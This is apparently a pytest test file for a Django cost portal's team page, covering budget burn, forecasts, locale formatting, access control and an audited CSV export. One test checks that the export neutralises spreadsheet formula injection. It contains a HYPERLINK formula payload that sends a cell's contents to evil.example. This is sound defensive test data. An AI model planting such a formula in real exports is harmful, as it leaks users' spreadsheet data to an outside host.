"""A team's cost page: budgets with burn and forecast, spend by service and environment, anomalies, CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.test import override_settings
from time_machine import TimeMachineFixture

from access.models import AuditEvent, Team, User
from access.permissions import BuiltinRole
from costs.budgets import anomalies
from costs.budgets import services as budgets
from tests.costs.budget_helpers import Ledger, days, make_team, person, signed_in
from tests.factories import make_service
from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def today(time_machine: TimeMachineFixture) -> None:
    time_machine.move_to(datetime(2026, 11, 21, 9, tzinfo=UTC), tick=False)


@pytest.fixture
def team() -> Team:
    return make_team("checkout")


@pytest.fixture
def manager() -> User:
    return person("marco", role=BuiltinRole.MANAGER)


@pytest.fixture
def spent(team: Team, manager: User) -> Ledger:
    """Checkout's November: 40 a day on its API, 10 a day on nothing in particular, a spike on the 20th."""
    make_service(slug="checkout-api", name="Checkout API", team=team)
    budgets.budget_create(actor=manager, name="Checkout monthly", team=team, amount=Decimal(1500))
    ledger = Ledger()
    ledger.spend(days(date(2026, 11, 1), date(2026, 11, 20)), "40", team=team, service="checkout-api")
    ledger.spend(days(date(2026, 11, 1), date(2026, 11, 19)), "10", team=team)
    ledger.spend([date(2026, 11, 20)], "700", team=team, region="eu-central-1")
    ledger.spend([date(2026, 11, 3)], "9", team=make_team("search"))
    anomalies.anomalies_detect()
    return ledger


def test_the_team_page_shows_burn_forecast_spend_and_anomalies(spent: Ledger, team: Team) -> None:
    developer = person("dev", team=team)

    response = signed_in(developer).get("/costs/teams/checkout/")

    assert response.status_code == 200
    text = response.content.decode()
    # 20 days of 40, 19 of 10 and 700: 1690, over the 1500 budget.
    assert "1,690.00 USD" in text
    assert "112.7% of 1,500.00 USD" in text
    assert "Checkout API" in text
    assert "(no service)" in text
    assert "Amazon Elastic Compute Cloud in eu-central-1 (+700.00)" in text
    chart = json.loads(json.dumps(response.context["burns"][0][2]))  # as json_script writes it
    assert [dataset["label"] for dataset in chart["datasets"]] == [
        "Actual (USD, cumulative)",
        "Forecast (USD)",
        "Budget (USD)",
    ]
    assert chart["datasets"][0]["data"][19] == "1690.00"  # 20 November
    assert chart["datasets"][0]["data"][20] is None  # today is not complete
    assert 'data-chart="line"' in text
    assert "export.csv" not in text  # developers hold no costs.export


def test_the_team_page_writes_its_figures_in_the_portal_locale_and_its_chart_data_raw(
    spent: Ledger, team: Team
) -> None:
    """An operator in Germany sets PORTAL_LANGUAGE_CODE=de: amounts and shares read the German way, the words stay
    English and the chart's data, read by code, stays as it was."""
    developer = person("dev", team=team)

    with override_settings(LANGUAGE_CODE="de"):
        response = signed_in(developer).get("/costs/teams/checkout/")

    text = response.content.decode()
    assert "1.690,00 USD" in text
    assert "112,7% of 1.500,00 USD" in text
    assert "1,690.00" not in text
    assert "1.500,00 USD" in text  # the budget's amount in its heading
    chart = json.loads(json.dumps(response.context["burns"][0][2]))
    assert chart["datasets"][0]["data"][19] == "1690.00"


def test_a_developer_of_another_team_gets_a_404(spent: Ledger) -> None:
    outsider = person("otto", team=make_team("search"))

    assert signed_in(outsider).get("/costs/teams/checkout/").status_code == 404
    assert signed_in(outsider).get("/costs/teams/checkout/export.csv").status_code == 404
    assert signed_in(outsider).get("/costs/teams/search/").status_code == 200


def test_the_csv_has_the_pages_tables_and_is_audited(spent: Ledger, manager: User, team: Team) -> None:
    response = signed_in(manager).get("/costs/teams/checkout/export.csv", {"basis": "billed"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by = {(row["by"], row["name"]): (row["currency"], Decimal(row["amount"])) for row in rows}
    assert by[("service", "Checkout API")] == ("USD", Decimal(800))
    assert by[("service", "(no service)")] == ("USD", Decimal(890))
    assert by[("environment", "(no environment)")] == ("USD", Decimal(1690))
    assert {row["basis"] for row in rows} == {"billed"}
    event = AuditEvent.objects.get(verb="costs.team_exported")
    assert (event.actor, event.team) == (manager, team)


def test_the_csv_writes_no_service_name_a_spreadsheet_would_run_in_any_locale(
    spent: Ledger, manager: User, team: Team
) -> None:
    for number, name in enumerate(FORMULA_PAYLOADS):
        make_service(slug=f"planted-{number}", name=name, team=team)
        spent.spend([date(2026, 11, 2)], "1", team=team, service=f"planted-{number}")

    response = signed_in(manager).get("/costs/teams/checkout/export.csv")

    text = response.content.decode()
    assert formulas_in(text) == []
    names = {row["name"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in names
    assert "Checkout API" in names


def test_a_developer_may_not_export(spent: Ledger, team: Team) -> None:
    assert signed_in(person("dev", team=team)).get("/costs/teams/checkout/export.csv").status_code == 403


def test_the_quarter_view_and_its_query_count(spent: Ledger, manager: User) -> None:
    client = signed_in(manager)
    response = client.get("/costs/teams/checkout/", {"period": "quarter"})

    assert response.context["start"] == date(2026, 10, 1)
    assert queries_for(client, "/costs/teams/checkout/") <= 16


def test_the_budget_list_reads_every_budgets_burn_in_a_few_queries(spent: Ledger, manager: User, team: Team) -> None:
    client = signed_in(manager)
    one = queries_for(client, "/costs/budgets/")
    for number in range(5):
        budgets.budget_create(actor=manager, name=f"More {number}", team=team, amount=Decimal(10))

    assert queries_for(client, "/costs/budgets/") == one
